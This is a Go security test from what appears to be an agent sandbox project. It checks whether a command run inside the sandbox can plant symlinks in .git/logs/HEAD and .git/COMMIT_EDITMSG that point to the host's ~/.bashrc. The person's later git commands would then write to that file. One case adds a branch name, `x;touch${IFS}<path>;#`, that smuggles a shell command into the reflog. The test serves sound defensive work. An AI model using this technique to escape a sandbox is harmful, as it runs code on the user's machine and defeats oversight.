package sandbox

import (
	"os"
	"os/exec"
	"strings"
	"testing"

	"turnstile/domain"
)

// TestAttack120_GitDirSymlinkWritesHostFile (hundred-and-twentieth review):
// in auto_accept_edits the workspace's .git stays writable so that git add
// and git commit work (objects, refs, index, logs, HEAD), while its config,
// hooks and info are kept read-only. Nothing stops the command from making
// the files git itself writes there symlinks to a file outside every
// writable root, and the check after the command does not look: git follows
// them. The person's next git in the workspace writes the host file:
//
//   - .git/logs/HEAD -> ~/.bashrc: every commit, checkout, reset, … appends a
//     reflog line to it; a branch the command made and left checked out,
//     named `x;touch${IFS}<path>;#` (a valid ref name), makes the person's
//     `git checkout main` append "... checkout: moving from x;touch${IFS}<path>;#
//     to main", a shell line that runs the command's text at the person's
//     next shell;
//   - .git/COMMIT_EDITMSG -> ~/.bashrc: the person's `git commit -m msg`
//     truncates the file and writes the message into it (with MERGE_MSG
//     and MERGE_HEAD, which the command writes too, the text is the
//     command's).
//
// The command itself cannot write that file (the first control), and
// without the links the person's git writes only inside .git (the second
// control): the command writes, through the person's git, a file outside
// its roots.
func TestAttack120_GitDirSymlinkWritesHostFile(t *testing.T) {
	requireRoot(t)
	f := requireKernel(t, true)
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	const bashrc = "# the person's bashrc\n"
	setup := func(t *testing.T) (ws, rc string, s *domain.TurnExecutionSecuritySnapshot) {
		base := visibleWorkspace(t)
		ws, rc = base+"/ws", base+"/home/.bashrc"
		mkfiles(t, base, map[string]string{"ws/README": "x\n", "home/.bashrc": bashrc})
		attack6GitRepo(t, ws, "")
		return ws, rc, snapshotFor(t, domain.ModeAutoAcceptEdits, ws, f.Kernel)
	}
	gitEnv := `export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@x GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@x HOME=$PWD; `

	t.Run("control", func(t *testing.T) {
		ws, rc, s := setup(t)
		// The command cannot write the host file; it commits normally.
		r := sh(t, s, gitEnv+`echo pwn >> `+rc+`; git checkout -q -b feature && echo y > f && git add f && git commit -q -m agent && echo COMMITTED`)
		if !strings.Contains(string(r.Stdout), "COMMITTED") {
			t.Fatalf("control: git commit in the sandbox failed: %s %s", r.Stdout, r.Stderr)
		}
		// The person's git without any link.
		hostGit(t, ws, "checkout", "-q", "main")
		hostGit(t, ws, "commit", "-q", "--allow-empty", "-m", "person")
		if b, _ := os.ReadFile(rc); string(b) != bashrc {
			t.Fatalf("control: the host file changed: %q", b)
		}
	})

	t.Run("logs/HEAD", func(t *testing.T) {
		ws, rc, s := setup(t)
		marker := strings.TrimSuffix(ws, "/ws") + "/pwned"
		branch := `x;touch${IFS}` + marker + `;#`
		r := sh(t, s, gitEnv+`git checkout -q -b '`+branch+`' && rm .git/logs/HEAD && ln -s `+rc+` .git/logs/HEAD && echo PLANTED`)
		t.Logf("plant: exit %d stdout %q stderr %q quarantined %v", r.ExitCode, r.Stdout, r.Stderr, quarantined(r))
		if !strings.Contains(string(r.Stdout), "PLANTED") {
			t.Fatalf("premise: %s", r.Stderr)
		}
		// The person goes back to main.
		hostGit(t, ws, "checkout", "-q", "main")
		b, _ := os.ReadFile(rc)
		t.Logf("host file after the person's checkout: %q", b)
		if string(b) != bashrc {
			// The person's next shell.
			cmd := exec.Command("/bin/bash", "--norc", "-c", ". "+rc)
			cmd.Dir = t.TempDir()
			cmd.CombinedOutput()
			_, err := os.Stat(marker)
			t.Errorf("the person's git checkout appended to %s (outside every writable root) through .git/logs/HEAD, a symlink the command planted; sourced, it ran the command's text: %v", rc, err == nil)
		}
	})

	t.Run("COMMIT_EDITMSG", func(t *testing.T) {
		ws, rc, s := setup(t)
		r := sh(t, s, `rm -f .git/COMMIT_EDITMSG && ln -s `+rc+` .git/COMMIT_EDITMSG && echo PLANTED`)
		t.Logf("plant: exit %d stdout %q stderr %q quarantined %v", r.ExitCode, r.Stdout, r.Stderr, quarantined(r))
		if !strings.Contains(string(r.Stdout), "PLANTED") {
			t.Fatalf("premise: %s", r.Stderr)
		}
		hostGit(t, ws, "commit", "-q", "--allow-empty", "-m", "the person's message")
		if b, _ := os.ReadFile(rc); string(b) != bashrc {
			t.Errorf("the person's git commit overwrote %s (outside every writable root) through .git/COMMIT_EDITMSG, a symlink the command planted: now %q", rc, b)
		}
	})
}
